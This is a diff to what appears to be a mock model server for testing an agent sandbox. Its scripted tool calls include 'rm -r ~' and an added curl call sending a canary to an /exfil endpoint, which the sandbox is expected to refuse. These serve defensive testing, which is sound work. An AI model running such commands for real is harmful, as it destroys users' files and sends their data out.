@@ -45,7 +45,11 @@ SCRIPT = [
     {"patch": "*** Begin Patch\n*** Update File: .env\n@@\n+EXTRA=from-the-model\n*** End Patch\n"},
     {"patch": "*** Begin Patch\n*** Add File: NOTES.md\n+notes from the model\n*** End Patch\n"},
     {"exec": "rm -r ~"},
+    # A tool call that tries to reach this very server ({port}: its port):
+    # the network issue's exfiltration case, refused at its connect.
+    {"exec": "curl -s -m 5 http://127.0.0.1:{port}/exfil?d=canary"},
 ]
+PORT = [0]
 FINAL_TEXT = "done"
 
 _ids = itertools.count(1)
@@ -89,7 +93,7 @@ def plan(req):
                     "type": "function_call",
                     "id": next_id("fc"),
                     "name": "exec_command",
-                    "arguments": json.dumps({"cmd": s["exec"]}),
+                    "arguments": json.dumps({"cmd": s["exec"].replace("{port}", str(PORT[0]))}),
                     "call_id": next_id("call"),
                 }
                 return [item], "main step %d: exec_command %s" % (step, s["exec"])
@@ -259,6 +263,7 @@ def main():
     srv.log_path = os.path.abspath(a.log)
     srv.first_delay = a.first_delay
     port = srv.server_address[1]
+    PORT[0] = port
     if a.port_file:
         tmp = a.port_file + ".tmp"
         with open(tmp, "w") as f:
